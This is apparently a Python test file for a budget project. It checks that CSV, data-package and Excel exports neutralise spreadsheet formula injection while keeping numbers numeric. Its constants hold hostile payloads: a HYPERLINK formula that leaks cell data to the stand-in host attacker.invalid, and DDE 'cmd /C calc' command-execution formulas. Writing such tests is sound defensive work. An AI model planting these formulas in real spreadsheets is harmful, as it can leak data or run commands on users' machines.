"""Every spreadsheet-bound export (facts CSV, data package, drivers workbook) writes text
that a spreadsheet shows as text, never runs as a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal, InvalidOperation
from itertools import cycle
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from rbb.model import Document
from rbb.model.facts import Fact, document_facts, facts_csv
from rbb.model.spreadsheet import FORMULA_TRIGGERS
from rbb.services.datapackage import write_datapackage
from rbb.services.driver_files import read_drivers, write_drivers
from tests.conftest import BUDGET_SEED, PERFORMANCE_SEED, imported
from tests.costing.conftest import _unmik
from tests.storage.test_document_store import budget_2025_26

LINK = '=HYPERLINK("http://attacker.invalid/?leak="&A2,"Details")'
CALC = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
RETURN = "\r=1+1"
HOSTILE = (LINK, CALC, PLUS, MINUS, AT, TAB, RETURN)
FILE = "=2+5+cmd|' -C calc'!A0.txt"
"""A file name cannot hold a slash: the attack without one."""


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or _is_number(cell), (cell, row)


def hostile(document: Document) -> Document:
    """The document with attacks in its free-text fields (each exported somewhere), the
    attacks taken in turn so that each one reaches some export."""
    attacks = cycle(HOSTILE)
    data: dict[str, Any] = document.model_dump(mode="json")
    data["title"] = next(attacks)
    data["source"]["name"] = FILE
    for key, field in (("non_budgeted_contributions", "label"),
                       ("programmatic_activities", "description"),
                       ("training_costs", "label"), ("other_revenue", "label")):
        for row in data[key]:
            row[field] = next(attacks)
    for explanation in data["variance_explanations"]:
        explanation["paragraphs"][0]["text"] = next(attacks)
    for component in data["components"]:
        for ea in component["expected_accomplishments"]:
            for indicator in ea["indicators"]:
                indicator["text"] = next(attacks)
            for output in ea["outputs"]:
                output["text"], output["remarks"] = next(attacks), next(attacks)
    return Document.model_validate(data)


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_facts_csv_neutralises_hostile_labels() -> None:
    document = hostile(imported(BUDGET_SEED).document)
    rows = _read(facts_csv(document_facts(document)))
    _assert_no_formula(rows)
    labels = {row[2] for row in rows}
    assert {"'" + attack for attack in HOSTILE} <= labels
    # Numbers are still numbers: the medical variance of seed line 527 is -6.8.
    assert [r[4] for r in rows if r[2] == "medical" and r[3] == "variance_amount"] == ["-6.8"]


def test_the_data_package_neutralises_every_text_cell(tmp_path: Path) -> None:
    documents = [hostile(imported(path).document) for path in (BUDGET_SEED, PERFORMANCE_SEED)]
    write_datapackage(documents, tmp_path)
    found: set[str] = set()
    for path in sorted(tmp_path.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        _assert_no_formula(rows)
        found.update(cell for row in rows for cell in row)
    for attack in (*HOSTILE, FILE):
        assert "'" + attack in found, attack
    with (tmp_path / "financial_resources.csv").open(encoding="utf-8") as handle:
        medical = [r for r in csv.DictReader(handle)
                   if r["line"] == "medical" and r["column"] == "variance_amount"]
    assert medical[0]["value"] == "-6.8"


def _hostile_drivers() -> Any:
    drivers = _unmik().calibrated
    posts = list(drivers.posts)
    for index, attack in enumerate((*HOSTILE, "'" + CALC)):
        post = posts[index]
        posts[index] = post.model_copy(update={"provenance": post.provenance.model_copy(
            update={"note": attack, "reference": LINK})})
    return drivers.model_copy(update={"posts": tuple(posts)})


def test_the_drivers_workbook_writes_text_cells_never_formulas(tmp_path: Path) -> None:
    path = write_drivers(_hostile_drivers(), tmp_path / "drivers.xlsx")
    book = load_workbook(path)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    texts.append(cell.value)
    _assert_no_formula([texts])
    assert "'" + LINK in texts and "'" + TAB in texts
    # Numbers stay numeric cells: the EUR rate of the seed's drivers is 0.948.
    assert list(book["exchange_rates"].iter_rows(values_only=True))[1][2] == 0.948


def test_the_drivers_workbook_reads_back_what_was_written(tmp_path: Path) -> None:
    drivers = _hostile_drivers()
    back = read_drivers(write_drivers(drivers, tmp_path / "drivers.xlsx"))
    # Reading strips surrounding white space (as before), so tab and return lose it.
    notes = [p.provenance.note for p in back.posts[:len(HOSTILE) + 1]]
    assert notes == [LINK, CALC, PLUS, MINUS, AT, "=1+1", "=1+1", "'" + CALC]
    assert back.posts[len(HOSTILE) + 1:] == drivers.posts[len(HOSTILE) + 1:]
    assert back.posts[0].provenance.reference == LINK


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=4))
def test_no_exported_text_cell_starts_with_a_formula_trigger(texts: list[str]) -> None:
    facts = [Fact(section=t, table=t, row=t, column=t, value=Decimal("-1.5"), unit=t,
                  source_line=1) for t in texts]
    rows = _read(facts_csv(facts))
    _assert_no_formula(rows)
    # The value column is a number and is written as one.
    assert [row[4] for row in rows[1:]] == ["-1.5"] * len(texts)


# Any text but what XML 1.0 cannot hold (openpyxl refuses control characters).
_XML_TEXT = st.text(st.characters(blacklist_categories=("Cs",),
                                  blacklist_characters=[chr(c) for c in range(32)
                                                        if chr(c) not in "\t\n\r"]))


@settings(max_examples=25, suppress_health_check=[HealthCheck.too_slow,
                                                  HealthCheck.function_scoped_fixture],
          deadline=None)
@given(title=st.text(min_size=1), text=st.text(min_size=1))
def test_no_data_package_text_cell_starts_with_a_formula_trigger(
        tmp_path_factory: Any, title: str, text: str) -> None:
    document = budget_2025_26().model_copy(update={"title": title, "symbol": None})
    folder = tmp_path_factory.mktemp("package")
    write_datapackage([document, document.model_copy(update={"title": text})], folder)
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            _assert_no_formula(list(csv.reader(handle)))


@settings(max_examples=20, suppress_health_check=[HealthCheck.too_slow,
                                                  HealthCheck.function_scoped_fixture],
          deadline=None)
@given(note=_XML_TEXT)
def test_every_workbook_note_reads_back_as_written(tmp_path_factory: Any, note: str) -> None:
    drivers = _unmik().calibrated
    post = drivers.posts[0]
    changed = drivers.model_copy(update={"posts": (post.model_copy(update={
        "provenance": post.provenance.model_copy(update={"note": note})}),
        *drivers.posts[1:])})
    path = write_drivers(changed, tmp_path_factory.mktemp("drivers") / "drivers.xlsx")
    cells = [c for sheet in load_workbook(path).worksheets for row in sheet.iter_rows()
             for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in cells)
    _assert_no_formula([[c.value for c in cells]])
    # Reading strips surrounding white space and reads an empty cell as no note.
    assert read_drivers(path).posts[0].provenance.note == (note.strip() or None)
